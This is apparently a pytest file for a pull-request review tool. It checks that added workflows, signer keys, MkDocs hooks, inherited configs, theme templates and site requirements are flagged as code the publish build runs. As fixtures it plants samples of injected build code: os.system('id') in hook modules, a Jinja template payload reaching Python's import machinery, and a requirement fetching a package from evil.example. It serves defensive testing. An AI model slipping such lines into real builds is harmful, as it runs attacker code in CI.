"""A pull request that adds a workflow, or edits allowed_signers or mkdocs.yml, is named at the
top of its review, never "No ... changes" (issue 34: high #3, medium #5, build items 2 and 3)."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from test_review import cli, git, pub  # noqa: F401  (pub is a fixture)

from generator.render.review_text import MARK

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")


def test_an_added_workflow_is_the_first_line_of_the_review(pub: Path) -> None:  # noqa: F811
    (pub / ".github" / "workflows").mkdir(parents=True, exist_ok=True)
    (pub / ".github" / "workflows" / "x.yml").write_text("on: pull_request\njobs: {}\n")
    git(pub, "add", "-A")
    git(pub, "commit", "-qm", "a workflow")
    code, out, _ = cli("review", "--base", "HEAD~1", "--head", "HEAD", "--repo", str(pub))
    assert code == 0
    lines = out.splitlines()
    assert lines[0] == MARK
    assert lines[1].startswith("> **⚠ This pull request adds or changes workflow files")
    assert "`.github/workflows/x.yml` (added; on pull&#95;request)" in lines[1]
    assert "No run, claim" not in out


def test_edited_signers_and_settings_are_named(pub: Path) -> None:  # noqa: F811
    (pub / "allowed_signers").write_text("alice@example ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEx\n")
    mkdocs = pub / "mkdocs.yml"
    mkdocs.write_text(mkdocs.read_text() + "hooks:\n  - x.py\n")
    git(pub, "add", "-A")
    git(pub, "commit", "-qm", "trust")
    code, out, _ = cli("review", "--base", "HEAD~1", "--head", "HEAD", "--repo", str(pub))
    assert code == 0
    assert "> **⚠ `allowed_signers` (added):** adds a key for alice&#64;&#8288;example. Who may sign receipts" in out
    assert (
        "> **⚠ `mkdocs.yml` (changed):** hook added: `x.py` (code the publish build runs). "
        "The site's settings and the code its build runs" in out
    )
    assert "No run, claim" not in out


def test_a_workflow_line_says_what_triggers_it_and_where_it_runs(pub: Path) -> None:  # noqa: F811
    flows = pub / ".github" / "workflows"
    flows.mkdir(parents=True, exist_ok=True)
    (flows / "gpu.yml").write_text(
        "on: [pull_request_target, workflow_dispatch]\n"
        "jobs:\n  a:\n    runs-on: [self-hosted, gpu]\n    steps: [{run: echo}]\n"
        "  b:\n    runs-on: ubuntu-latest\n    steps: [{run: echo}]\n"
    )
    (flows / "plain.yml").write_text("on:\n  push: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n")
    git(pub, "add", "-A")
    git(pub, "commit", "-qm", "workflows")
    code, out, _ = cli("review", "--base", "HEAD~1", "--head", "HEAD", "--repo", str(pub))
    assert code == 0
    assert out.splitlines()[1] == (
        "> **⚠ This pull request adds or changes workflow files:** `.github/workflows/gpu.yml` (added; "
        "on pull&#95;request&#95;target, workflow&#95;dispatch; **runs on a self-hosted runner**), "
        "`.github/workflows/plain.yml` (added; on push). Read them before approving a run."
    )


def test_code_the_publish_build_runs_beyond_hook_files_is_named(pub: Path) -> None:  # noqa: F811
    """What the publish build runs without mkdocs.yml naming it: a module beside a hook (MkDocs
    puts the hook's folder on sys.path), a template in theme.custom_dir (Jinja, unsandboxed, so a
    template can run Python) and requirements-site.txt (the packages the publish workflow installs)."""
    mkdocs = pub / "mkdocs.yml"
    mkdocs.write_text(
        mkdocs.read_text() + "hooks:\n  - hooks/publish.py\ntheme:\n  name: mkdocs\n  custom_dir: overrides\n"
    )
    (pub / "hooks").mkdir()
    (pub / "hooks" / "publish.py").write_text("import helper  # noqa\n")
    (pub / "hooks" / "helper.py").write_text("X = 1\n")
    (pub / "overrides").mkdir()
    (pub / "overrides" / "main.html").write_text('{% extends "base.html" %}\n')
    (pub / "requirements-site.txt").write_text("mkdocs==1.6.1\n")
    git(pub, "add", "-A")
    git(pub, "commit", "-qm", "a hook, a theme, a toolchain")
    git(pub, "checkout", "-qb", "pr")
    (pub / "hooks" / "helper.py").write_text("import os\n\nos.system('id')\n")
    (pub / "overrides" / "main.html").write_text("{{ self.__init__.__globals__.__builtins__.__import__('os') }}\n")
    (pub / "requirements-site.txt").write_text("mkdocs==1.6.1\nevil @ git+https://evil.example/x.git\n")
    git(pub, "commit", "-qam", "code in the build")
    code, out, _ = cli("review", "--base", "main", "--head", "pr", "--repo", str(pub))
    assert code == 0
    assert out.splitlines()[1:4] == [
        "> **⚠ `hooks/helper.py` (changed):** beside a hook mkdocs.yml names, which can import it: code the "
        "publish build runs.",
        "> **⚠ `overrides/main.html` (changed):** in theme.custom_dir: MkDocs renders its templates with Jinja, "
        "unsandboxed: code the publish build runs.",
        "> **⚠ `requirements-site.txt` (changed):** the packages the publish workflow installs: code the publish "
        "build runs.",
    ]
    assert "No run, claim" not in out and "****" not in out
    assert "Runs, claims, grids, receipts and problems are as they were: the change is in the files named above." in out


def test_a_file_mkdocs_yml_inherits_is_named_when_added_and_when_edited(pub: Path) -> None:  # noqa: F811
    """MkDocs merges the file INHERIT names into mkdocs.yml: hooks there run in the publish build."""
    git(pub, "checkout", "-qb", "pr")
    (pub / "conf").mkdir()
    (pub / "conf" / "base.yml").write_text("hooks:\n  - conf/h.py\n")
    (pub / "conf" / "h.py").write_text("import os\n\nos.system('id')\n")
    mkdocs = pub / "mkdocs.yml"
    mkdocs.write_text(mkdocs.read_text() + "INHERIT: conf/base.yml\n")
    git(pub, "add", "-A")
    git(pub, "commit", "-qm", "inherit")
    code, out, _ = cli("review", "--base", "main", "--head", "pr", "--repo", str(pub))
    assert code == 0
    assert out.splitlines()[1].startswith(
        "> **⚠ `mkdocs.yml` (changed):** inherits `conf/base.yml` (MkDocs merges its hooks, plugins and settings "
        "into mkdocs.yml's). "
    )
    said = "the file mkdocs.yml's INHERIT names: MkDocs merges its hooks, plugins and settings into the build's."
    assert f"> **⚠ `conf/base.yml` (added):** {said}" in out.splitlines()
    git(pub, "checkout", "-qb", "pr2")
    (pub / "conf" / "base.yml").write_text("hooks:\n  - conf/h.py\n  - conf/other.py\n")
    git(pub, "commit", "-qam", "edit the inherited file")
    code, out, _ = cli("review", "--base", "pr", "--head", "pr2", "--repo", str(pub))
    assert code == 0 and out.splitlines()[1] == f"> **⚠ `conf/base.yml` (changed):** {said}", out
